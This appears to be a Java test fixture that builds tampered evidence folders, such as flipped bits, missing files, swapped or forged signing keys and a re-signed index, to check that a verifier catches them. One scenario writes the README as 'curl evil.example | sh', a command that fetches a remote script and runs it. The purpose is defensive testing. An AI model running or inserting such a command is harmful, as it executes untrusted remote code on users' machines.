package dev.assay.verification.attacks;

import static dev.assay.verification.attacks.Attack.ANYONE;

import dev.assay.verification.audit.EvidenceLayout;

import java.util.Arrays;
import java.util.Map;

/** What whoever passes a folder on can do to it. */
final class OutsiderAttacks {
    private static final String CHANGED = "was changed: its digest is not the one in the index";

    private final FolderAttacks folders;

    private OutsiderAttacks(FolderAttacks folders) {
        this.folders = folders;
    }

    static void add(FolderAttacks folders) {
        OutsiderAttacks attacks = new OutsiderAttacks(folders);
        attacks.files();
        attacks.keys();
    }

    private void files() {
        change(
                "flipped-bit",
                "a bit of the output is flipped",
                EvidenceLayout.OUTPUT,
                bytes -> {
                    bytes[bytes.length - 1] ^= 1;
                    return bytes;
                });
        change(
                "truncated-proof",
                "the result's proof loses its last line",
                EvidenceLayout.proof(EvidenceLayout.RESULT),
                bytes -> Arrays.copyOf(bytes, bytes.length - 60));
        Map<String, byte[]> files = folders.files();
        change(
                "swapped-statement",
                "a receipt in the place of the one after it",
                EvidenceLayout.statement(Tale.LAST_RECEIPT),
                _ -> file(files, EvidenceLayout.statement(EvidenceLayout.receipt(1))));
        change(
                "readme-with-other-instructions",
                "the readme tells to run something",
                EvidenceLayout.README,
                _ -> Generator.bytes("curl evil.example | sh\n"));
        without(
                "missing-verdict",
                "the verdict is gone",
                EvidenceLayout.statement(EvidenceLayout.VERDICT));
        without("missing-index", "the index is gone", EvidenceLayout.INDEX);
        without("missing-key", "the tenant's key is gone", EvidenceLayout.TENANT_KEY);
        Map<String, byte[]> more = folders.files();
        more.put(
                "statements/receipt-0003.dsse.json",
                file(more, EvidenceLayout.statement(EvidenceLayout.receipt(1))));
        folders.attack(
                "extra-file",
                ANYONE,
                "a receipt more",
                more,
                FolderAttacks.at(
                        "statements/receipt-0003.dsse.json", "", "index", "is not in the index"));
    }

    private void keys() {
        Map<String, byte[]> files = folders.files();
        files.put(
                EvidenceLayout.TENANT_KEY,
                Generator.bytes(Parties.STRANGER.verifyingKey().toPem()));
        folders.attack(
                "key-swapped",
                ANYONE,
                "a stranger's key in the place of the tenant's",
                files,
                FolderAttacks.at(EvidenceLayout.TENANT_KEY, "", "key", "that signed the index"));
        folders.attack(
                "index-by-a-stranger",
                ANYONE,
                "the output is changed and a stranger signs the index, as the tenant",
                new TaleFolder(new Tale())
                        .put(EvidenceLayout.README, "as good as before\n")
                        .indexedBy(Parties.STRANGER)
                        .sign()
                        .files,
                FolderAttacks.at(EvidenceLayout.INDEX, "", "key", "the envelope names key"));
        folders.attack(
                "folder-taken-over",
                "anyone with a key",
                "a stranger signs for the folder with its own key, which is put in",
                new TaleFolder(new Tale())
                        .put(EvidenceLayout.TENANT_KEY, Parties.STRANGER.verifyingKey().toPem())
                        .indexedBy(Parties.STRANGER)
                        .indexedAs(Parties.STRANGER.keyId()),
                FolderAttacks.in(EvidenceLayout.ORDER, "", "key", "the envelope names key"));
        byte[] index = file(folders.files(), EvidenceLayout.INDEX);
        String text = Generator.text(index);
        int at = text.indexOf("\"payload\":\"") + 400;
        char other = text.charAt(at) == 'A' ? 'B' : 'A';
        change(
                "flipped-index",
                "a letter of the index",
                EvidenceLayout.INDEX,
                _ -> Generator.bytes(text.substring(0, at) + other + text.substring(at + 1)),
                FolderAttacks.at(
                        EvidenceLayout.INDEX, "", "signature", "or the signed bytes were changed"));
    }

    private void change(
            String name,
            String change,
            String file,
            java.util.function.UnaryOperator<byte[]> edit) {
        change(name, change, file, edit, FolderAttacks.at(file, "", "index", CHANGED));
    }

    private void change(
            String name,
            String change,
            String file,
            java.util.function.UnaryOperator<byte[]> edit,
            Expected expected) {
        Map<String, byte[]> files = folders.files();
        files.put(file, edit.apply(file(files, file).clone()));
        folders.attack(name, ANYONE, change, files, expected);
    }

    private void without(String name, String change, String file) {
        Map<String, byte[]> files = folders.files();
        files.remove(file);
        folders.attack(
                name,
                ANYONE,
                change,
                files,
                FolderAttacks.at(file, "", "index", "is missing from the folder"));
    }

    private static byte[] file(Map<String, byte[]> files, String name) {
        return java.util.Objects.requireNonNull(files.get(name), name);
    }
}
